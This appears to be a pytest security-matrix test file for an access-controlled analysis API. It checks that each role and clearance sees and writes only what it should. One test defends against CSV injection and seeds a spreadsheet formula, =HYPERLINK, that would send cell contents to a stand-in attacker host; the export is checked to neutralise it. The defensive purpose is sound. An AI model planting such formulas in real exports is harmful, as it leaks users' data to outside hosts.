"""The security matrix: every role × every clearance × every endpoint.

A user never sees above their clearance — in lists, single reads, search, exports, counts,
the audit log, an assessment's history, an action's links and the answers of duplicate checks
alike — and never writes above their role (403) or while anonymous (401).
"""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from clients import LEVELS, ROLES, api_client, bearer, make_users
from fastapi.testclient import TestClient
from workspace_databases import backends, database_url

from vigil.workspace import alerts
from vigil.workspace.access import Level, Role
from vigil.workspace.database import open_database
from vigil.workspace.users import system_actor

PAIRS = [(role, level) for role in ROLES for level in LEVELS]
IDS = [f"{role}-{level}" for role, level in PAIRS]
RESOURCES = ("reports", "notes", "assessments", "alerts", "actions")
WRITERS = [p for p in PAIRS if p[0] != "viewer"]


@dataclass
class World:
    client: TestClient
    tokens: dict[tuple[str, str], str]
    seeded: dict[str, dict[str, int]]
    user_ids: dict[str, int]

    def get(self, path: str, who: tuple[str, str]) -> Any:
        return self.client.get(path, headers=bearer(self.tokens[who]))


def _seed(client: TestClient, url: str, token: str) -> dict[str, dict[str, int]]:
    auth = bearer(token)
    seeded: dict[str, dict[str, int]] = {r: {} for r in (*RESOURCES, "sources", "comments")}
    seeded["declassified"] = {}
    for level in LEVELS:
        posts = {
            "reports": (
                "/api/v1/reports?triage=false",
                {"text": f"matrixword {level} report", "countries": ["SDN"]},
            ),
            "notes": ("/api/v1/notes", {"iso3": "SDN", "body": f"matrixword {level}"}),
            "assessments": ("/api/v1/assessments", {"iso3": "SDN", "assessed_on": "2025-01-01"}),
            "sources": ("/api/v1/sources", {"name": f"source {level}"}),
        }
        for resource, (path, body) in posts.items():
            response = client.post(path, headers=auth, json={**body, "confidentiality": level})
            assert response.status_code == 201, response.text
            seeded[resource][level] = response.json()["id"]
    db = open_database(url)
    with db.session() as session:
        rule = alerts.add_rule(session, system_actor, "seed", "forecast_top_n", {"n": 1})
        for level in LEVELS:
            [alert] = alerts.raise_alerts(
                session,
                system_actor,
                [alerts.Candidate(rule, "SDN", f"alert {level}", {}, f"seed:{level}", level)],
            )
            seeded["alerts"][level] = alert.id
    db.dispose()
    for level in LEVELS:
        response = client.post(
            f"/api/v1/alerts/{seeded['alerts']['public']}/comments",
            headers=auth,
            json={"body": level, "confidentiality": level},
        )
        seeded["comments"][level] = response.json()["id"]
        action = {"iso3": "SDN", "type": "mediation", "actor": "AU", "title": f"act {level}"}
        response = client.post(
            "/api/v1/actions",
            headers=auth,
            json={**action, "started_on": "2025-01-02", "confidentiality": level,
                  "alert_ids": [seeded["alerts"][level]]},
        )  # fmt: skip
        assert response.status_code == 201, response.text
        seeded["actions"][level] = response.json()["id"]
    seeded["declassified"]["id"] = _declassified(client, auth)
    return seeded


def _declassified(client: TestClient, auth: dict[str, str]) -> int:
    """An assessment written while confidential (version 1), then declassified (version 2)."""
    made = client.post(
        "/api/v1/assessments",
        headers=auth,
        json={"iso3": "SDN", "assessed_on": "2025-03-01", "confidentiality": "confidential",
              "summary": "secret summary from the field"},
    ).json()  # fmt: skip
    changed = client.patch(
        f"/api/v1/assessments/{made['id']}",
        headers=auth,
        json={"version": 1, "confidentiality": "public", "summary": "public summary"},
    )
    assert changed.status_code == 200, changed.text
    return int(made["id"])


@pytest.fixture(scope="module", params=backends())
def world(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[World]:
    home = tmp_path_factory.mktemp("matrix")
    with database_url(request.param, home) as url, api_client(home, url) as client:
        tokens = make_users(url)
        seeded = _seed(client, url, tokens[("admin", "confidential")])
        users = client.get("/api/v1/users", headers=bearer(tokens[("admin", "confidential")]))
        yield World(client, tokens, seeded, {u["name"]: u["id"] for u in users.json()})


def _allowed(clearance: str) -> set[str]:
    return set(Level(clearance).levels_up_to())


@pytest.mark.parametrize("resource", RESOURCES)
@pytest.mark.parametrize("who", PAIRS, ids=IDS)
def test_lists_and_single_reads_stop_at_the_clearance(
    world: World, who: tuple[str, str], resource: str
) -> None:
    seeded = world.seeded[resource]
    page = world.get(f"/api/v1/{resource}?iso3=SDN&limit=500", who).json()
    listed = {item["id"] for item in page["items"]}
    assert {level for level, item in seeded.items() if item in listed} == _allowed(who[1])
    assert all(item["confidentiality"] in _allowed(who[1]) for item in page["items"])
    assert page["total"] == len(page["items"])
    for level, item in seeded.items():
        status = world.get(f"/api/v1/{resource}/{item}", who).status_code
        assert status == (200 if level in _allowed(who[1]) else 404), (level, status)


@pytest.mark.parametrize("who", PAIRS, ids=IDS)
def test_search_export_sources_and_comments_stop_at_the_clearance(
    world: World, who: tuple[str, str]
) -> None:
    allowed = _allowed(who[1])
    found = world.get("/api/v1/reports?q=MATRIXWORD&limit=500", who).json()["items"]
    assert {r["confidentiality"] for r in found} == allowed
    notes = world.get("/api/v1/notes?q=matrixword&limit=500", who).json()["items"]
    assert {n["confidentiality"] for n in notes} == allowed
    export = world.get("/api/v1/reports/export?format=csv&q=matrixword", who).text
    assert {level for level in LEVELS if f"matrixword {level} report" in export} == allowed
    sources = world.get("/api/v1/sources", who).json()
    assert {s["name"] for s in sources} >= {f"source {level}" for level in allowed}
    assert all(s["confidentiality"] in allowed for s in sources)
    alert = world.get(f"/api/v1/alerts/{world.seeded['alerts']['public']}", who).json()
    assert {c["body"] for c in alert["comments"]} == allowed


@pytest.mark.parametrize("who", PAIRS, ids=IDS)
def test_alert_lists_carry_only_the_comments_within_the_clearance(
    world: World, who: tuple[str, str]
) -> None:
    listed = world.get("/api/v1/alerts?iso3=SDN&limit=500", who).json()["items"]
    [alert] = [a for a in listed if a["id"] == world.seeded["alerts"]["public"]]
    assert {c["body"] for c in alert["comments"]} == _allowed(who[1])
    for item in listed:
        assert all(c["confidentiality"] in _allowed(who[1]) for c in item["comments"])


@pytest.mark.parametrize("who", PAIRS, ids=IDS)
def test_history_and_diff_show_only_revisions_within_the_clearance(
    world: World, who: tuple[str, str]
) -> None:
    assessment = world.seeded["declassified"]["id"]
    history = world.get(f"/api/v1/assessments/{assessment}/history", who)
    assert history.status_code == 200
    cleared = who[1] == "confidential"
    assert [r["version"] for r in history.json()] == ([1, 2] if cleared else [2])
    assert ("secret summary" in history.text) is cleared
    diff = world.get(f"/api/v1/assessments/{assessment}/diff?from_version=1", who)
    assert diff.status_code == (200 if cleared else 404)
    assert "secret summary" not in diff.text or cleared
    backwards = world.get(f"/api/v1/assessments/{assessment}/diff?from_version=2&to_version=1", who)
    assert backwards.status_code == (200 if cleared else 404)


@pytest.mark.parametrize("who", PAIRS, ids=IDS)
def test_actions_and_their_links_stop_at_the_clearance(world: World, who: tuple[str, str]) -> None:
    allowed = _allowed(who[1])
    alert_levels = {v: k for k, v in world.seeded["alerts"].items()}
    for item in world.get("/api/v1/actions?limit=500", who).json()["items"]:
        assert {alert_levels.get(a, "public") for a in item["alert_ids"]} <= allowed
    report = world.get("/api/v1/responses/report?iso3=SDN", who).json()
    [situation] = report["situations"]
    shown = {t["id"] for t in situation["timeline"] if t["kind"] == "action"}
    assert shown == {world.seeded["actions"][level] for level in allowed}


@pytest.mark.parametrize("who", WRITERS, ids=IDS[3:])
def test_an_action_linking_an_alert_is_classified_at_least_as_high(
    world: World, who: tuple[str, str]
) -> None:
    response = world.client.post(
        "/api/v1/actions",
        headers=bearer(world.tokens[who]),
        json={"iso3": "MMR", "type": "mediation", "actor": "AU", "title": "linked",
              "started_on": "2025-01-02", "alert_ids": [world.seeded["alerts"][who[1]]]},
    )  # fmt: skip
    assert response.status_code == 201, response.text
    assert response.json()["confidentiality"] == who[1]


SECRET_STORY = (
    "Witnesses in the northern district describe militia units rounding up men from the "
    "displacement camp at night, separating them by ethnicity and taking them to the old "
    "cotton gin, where shots were heard until morning; local officials deny any knowledge. "
)


@pytest.mark.parametrize("who", WRITERS, ids=IDS[3:])
def test_duplicate_checks_compare_only_with_what_the_caller_may_see(
    world: World, who: tuple[str, str]
) -> None:
    admin, mine = bearer(world.tokens[("admin", "confidential")]), bearer(world.tokens[who])
    tag = _unique()
    story = f"{SECRET_STORY} Reference {tag}."
    secret = world.client.post(
        "/api/v1/reports?triage=false",
        headers=admin,
        json={"text": story, "confidentiality": "confidential"},
    ).json()["id"]
    cleared = who[1] == "confidential"
    exact = world.client.post("/api/v1/reports?triage=false", headers=mine, json={"text": story})
    assert exact.status_code == (409 if cleared else 201), exact.text
    if cleared:
        assert f"(report {secret})" in exact.json()["error"]["message"]
    else:
        assert exact.json()["near_duplicate_of"] != secret
    near = world.client.post(
        "/api/v1/reports?triage=false",
        headers=mine,
        json={"text": f"{story} One more line {_unique()}.", "confidentiality": who[1]},
    )
    assert near.status_code == 201, near.text
    if cleared:
        assert near.json()["near_duplicate_of"] == secret
    else:
        assert near.json()["near_duplicate_of"] != secret
        assert near.json()["similarity"] is None or near.json()["near_duplicate_of"] is not None


@pytest.mark.parametrize("who", WRITERS, ids=IDS[3:])
def test_a_source_name_conflict_reveals_only_visible_sources(
    world: World, who: tuple[str, str]
) -> None:
    name = f"field network {_unique()}"
    admin, mine = bearer(world.tokens[("admin", "confidential")]), bearer(world.tokens[who])
    made = world.client.post(
        "/api/v1/sources", headers=admin, json={"name": name, "confidentiality": "confidential"}
    )
    assert made.status_code == 201
    again = world.client.post("/api/v1/sources", headers=mine, json={"name": name})
    assert again.status_code == (409 if who[1] == "confidential" else 201), again.text


@pytest.mark.parametrize("who", PAIRS, ids=IDS)
def test_counts_agree_with_what_the_clearance_allows(world: World, who: tuple[str, str]) -> None:
    everything = ("admin", "confidential")
    counts = world.get("/api/v1/stats", who).json()
    for resource in RESOURCES:
        items = world.get(f"/api/v1/{resource}?limit=500", everything).json()["items"]
        expected = sum(item["confidentiality"] in _allowed(who[1]) for item in items)
        assert counts[resource] == expected, resource


@pytest.mark.parametrize("who", PAIRS, ids=IDS)
def test_only_admins_read_the_audit_log_and_only_within_clearance(
    world: World, who: tuple[str, str]
) -> None:
    response = world.get("/api/v1/audit?limit=500", who)
    if who[0] != "admin":
        assert response.status_code == 403
        return
    for entry in response.json()["items"]:
        level = (entry["after"] or {}).get("confidentiality", "public")
        assert level in _allowed(who[1]) or entry["entity"] == "user"


def _unique() -> str:
    return uuid.uuid4().hex[:10]


Write = Callable[["World"], tuple[str, str, dict[str, Any]]]


def _review(world: World) -> tuple[str, str, dict[str, Any]]:
    admin = bearer(world.tokens[("admin", "confidential")])
    made = world.client.post(
        "/api/v1/assessments", headers=admin, json={"iso3": "MMR", "assessed_on": "2025-02-01"}
    ).json()
    world.client.post(
        f"/api/v1/assessments/{made['id']}/status",
        headers=admin,
        json={"version": 1, "status": "submitted"},
    )
    return "post", f"/api/v1/assessments/{made['id']}/status", {"version": 2, "status": "reviewed"}


def _assign(world: World) -> tuple[str, str, dict[str, Any]]:
    alert_id = world.seeded["alerts"]["public"]
    version = world.get(f"/api/v1/alerts/{alert_id}", ("admin", "confidential")).json()["version"]
    return (
        "patch",
        f"/api/v1/alerts/{alert_id}",
        {"version": version, "assignee_id": world.user_ids["viewer-public"]},
    )


WRITES: dict[str, tuple[Role, Write]] = {
    "add note": (Role.analyst, lambda w: ("post", "/api/v1/notes", {"iso3": "MMR", "body": "w"})),
    "add report": (
        Role.analyst,
        lambda w: ("post", "/api/v1/reports?triage=false", {"text": f"report {_unique()}"}),
    ),
    "add assessment": (
        Role.analyst,
        lambda w: ("post", "/api/v1/assessments", {"iso3": "MMR", "assessed_on": "2025-01-01"}),
    ),
    "add source": (Role.analyst, lambda w: ("post", "/api/v1/sources", {"name": _unique()})),
    "record action": (
        Role.analyst,
        lambda w: (
            "post",
            "/api/v1/actions",
            {
                "iso3": "MMR",
                "type": "mediation",
                "actor": "AU",
                "title": "t",
                "started_on": "2025-01-02",
            },
        ),
    ),
    "comment alert": (
        Role.analyst,
        lambda w: (
            "post",
            f"/api/v1/alerts/{w.seeded['alerts']['public']}/comments",
            {"body": "c"},
        ),
    ),
    "assign alert": (Role.analyst, _assign),
    "label triage": (
        Role.analyst,
        lambda w: (
            "post",
            f"/api/v1/reports/{w.seeded['reports']['public']}/labels",
            {"factor_id": "RF1", "verdict": "confirmed"},
        ),
    ),
    "review assessment": (Role.reviewer, _review),
    "add rule": (
        Role.admin,
        lambda w: (
            "post",
            "/api/v1/alert-rules",
            {"name": _unique(), "kind": "forecast_top_n", "params": {"n": 3}},
        ),
    ),
    "add channel": (
        Role.admin,
        lambda w: (
            "post",
            "/api/v1/channels",
            {"name": _unique(), "kind": "webhook", "target": "https://hooks.example.org/vigil"},
        ),
    ),
    "add user": (Role.admin, lambda w: ("post", "/api/v1/users", {"name": _unique()})),
    "change user": (
        Role.admin,
        lambda w: ("patch", f"/api/v1/users/{w.user_ids['viewer-public']}", {"active": True}),
    ),
    "issue token": (
        Role.admin,
        lambda w: ("post", f"/api/v1/users/{w.user_ids['viewer-public']}/tokens", {}),
    ),
}


@pytest.mark.parametrize("write", list(WRITES))
@pytest.mark.parametrize("who", PAIRS, ids=IDS)
def test_writes_need_the_role_and_answer_403_below_it(
    world: World, who: tuple[str, str], write: str
) -> None:
    needed, prepare = WRITES[write]
    method, path, body = prepare(world)
    response = world.client.request(method, path, json=body, headers=bearer(world.tokens[who]))
    if Role(who[0]).rank < needed.rank:
        assert response.status_code == 403, response.text
        assert response.json()["error"]["code"] == "forbidden"
    else:
        assert response.status_code in (200, 201), response.text


@pytest.mark.parametrize("write", list(WRITES))
def test_anonymous_writes_answer_401(world: World, write: str) -> None:
    method, path, body = WRITES[write][1](world)
    assert world.client.request(method, path, json=body).status_code == 401


CLASSIFIED = {
    "note": ("/api/v1/notes", {"iso3": "MMR", "body": "c"}),
    "report": ("/api/v1/reports?triage=false", {"text": "classified"}),
    "assessment": ("/api/v1/assessments", {"iso3": "MMR", "assessed_on": "2025-01-01"}),
    "source": ("/api/v1/sources", {"name": "classified"}),
    "action": (
        "/api/v1/actions",
        {
            "iso3": "MMR",
            "type": "mediation",
            "actor": "AU",
            "title": "classified",
            "started_on": "2025-01-02",
        },
    ),
}


@pytest.mark.parametrize("kind", list(CLASSIFIED))
@pytest.mark.parametrize("who", [p for p in PAIRS if p[0] != "viewer"], ids=IDS[3:])
def test_nobody_writes_above_their_own_clearance(
    world: World, who: tuple[str, str], kind: str
) -> None:
    path, body = CLASSIFIED[kind]
    for level in LEVELS:
        if level in _allowed(who[1]):
            continue
        unique = {k: (f"{v} {_unique()}" if k in ("text", "name") else v) for k, v in body.items()}
        response = world.client.post(
            path, headers=bearer(world.tokens[who]), json={**unique, "confidentiality": level}
        )
        assert response.status_code == 403, response.text


def test_exported_cells_never_start_like_a_formula(world: World) -> None:
    admin = bearer(world.tokens[("admin", "confidential")])
    title = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    made = world.client.post(
        "/api/v1/reports?triage=false",
        headers=admin,
        json={"title": title, "text": f"@SUM(1+1) formula test {_unique()}"},
    )
    assert made.status_code == 201, made.text
    export = world.get(
        "/api/v1/reports/export?format=csv&q=formula+test", ("admin", "confidential")
    )
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert [r["title"] for r in rows] == ["'" + title]
    assert rows[0]["text"].startswith("'@SUM")
    assert all(not v.startswith(("=", "+", "@", "\t", "\r")) for r in rows for v in r.values())
